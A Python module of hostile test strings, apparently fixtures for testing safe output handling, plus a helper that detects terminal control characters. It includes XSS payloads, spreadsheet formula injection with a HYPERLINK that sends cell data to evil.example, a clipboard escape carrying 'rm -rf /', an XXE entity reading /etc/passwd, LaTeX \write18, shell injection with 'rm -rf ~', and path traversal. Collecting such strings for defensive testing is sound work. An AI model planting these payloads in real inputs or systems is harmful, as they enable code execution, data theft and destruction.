"""Texts that attack what prints, renders or parses them: terminals, pages, formulas, spreadsheets, paths."""

from __future__ import annotations

import unicodedata

TERMINAL = {
    "color": "red \x1b[31m text",
    "clear screen": "\x1b[2J\x1b[H gone",
    "window title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "hyperlink": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "device report": "\x1b[6n\x1b[c\x1bP+q544e\x1b\\",
    "carriage return": "safe\rOVERWRITTEN",
    "backspace": "safe\b\b\b\bevil",
    "bell": "ding\x07\x07",
    "C1 CSI": "\x9b31m red",
    "C1 OSC": "\x9d0;title\x9c",
    "delete": "a\x7fb",
    "shift out": "a\x0eb\x0fc",
    "vertical": "a\x0bb\x0cc",
    "next line": "a\x85b\u2028c\u2029d",
    "rich markup": "[bold red]loud[/] [link=http://evil.example]x[/link] :smile:",
    "unknown markup": "[/nothing] [[]] [not closed",
}
"""Texts that steer a terminal or the library that prints to it."""

DISGUISE = {
    "bidi override": "abc\u202etxt.exe",
    "bidi isolate": "\u2066a\u2069\u2067b\u2068c",
    "arabic letter mark": "a\u061cb\u200eb\u200f",
    "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff",
    "soft hyphen": "pay\u00adpal",
    "tag letters": "a\U000e0041\U000e0042\U000e007f",
    "combining": "Z" + "\u0310\u0363\u0353" * 40,
}
"""Texts that look like other texts."""

MARKUP = {
    "script": "<script>alert(1)</script>",
    "end of title": "</title></style></script><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single attribute": "' onfocus='alert(1)' autofocus='",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "javascript link": "javascript:alert(1)",
    "data link": "data:text/html,<script>alert(1)</script>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'>",
    "comment": "--><!-- ]]><![CDATA[ <?xml?> <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;",
    "template": "{{7*7}}{% for x in y %}{# #}",
    "style": "</style><style>*{background:url(http://evil.example)}",
    "markdown": "[x](javascript:alert(1)) ![y](http://evil.example/z.png) | `c` **b**",
}
"""Texts that add active content to a page or image."""

FORMULAS = {
    "spreadsheet": "=cmd|' /C calc'!A0",
    "spreadsheet link": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "wide equals": "\uff1d1+1",
    "quote": '"a","b"',
    "apostrophe": "'=1+1",
    "latex": "\\input{/etc/passwd} \\write18{id} $x$ %c ^^4d",
    "mathtext": "$\\frac{1}{0}$ $\\unknown{x}$ $",
}
"""Texts that a spreadsheet or a typesetter runs, or that the quoting of a cell must hold."""

BREAKERS = {
    "newline": "one\ntwo\r\nthree",
    "forged line": "x\nUsageError E101 in --net: forged\n",
    "NUL": "a\x00b",
    "braces": "{0} {x!r} {self.__class__} %s %(x)s ${HOME} {",
    "shell": "$(id) `id`; rm -rf ~ | cat && echo 'x' \"y\" \\",
    "TOML": '"]\n[x]\ny = """',
    "JSON": '"}, {"a": [\\u0000',
    "comma": "a,b;c\td",
    "path traversal": "../../../../tmp/evil",
    "option": "--out=/tmp/evil",
    "long": "L" * 5000,
    "long wide": "\u6885" * 2000,
    "spaces": "  a\u00a0b\u3000c  ",
    "number sign": "#VALUE! #REF!",
}
"""Texts that break the structure of a file, a line or a format string."""

PAYLOADS: dict[str, str] = {**TERMINAL, **DISGUISE, **MARKUP, **FORMULAS, **BREAKERS}
"""Every payload by its name."""

_VISIBLE_FORMATS = set("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd")


def raw_controls(text: str) -> set[str]:
    """The characters of a printed text that a terminal interprets, or that hide or reorder others.

    A line feed is allowed: line breaks of the program cannot be distinguished from those of a payload, so
    forged lines are recognized by their content.

    Example:
        >>> sorted(raw_controls("a\\x1b[31m\\u202e\\n"))
        ['\\x1b', '\\u202e']
    """
    return {
        c
        for c in set(text)
        if c != "\n"
        and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        and c not in _VISIBLE_FORMATS
    }
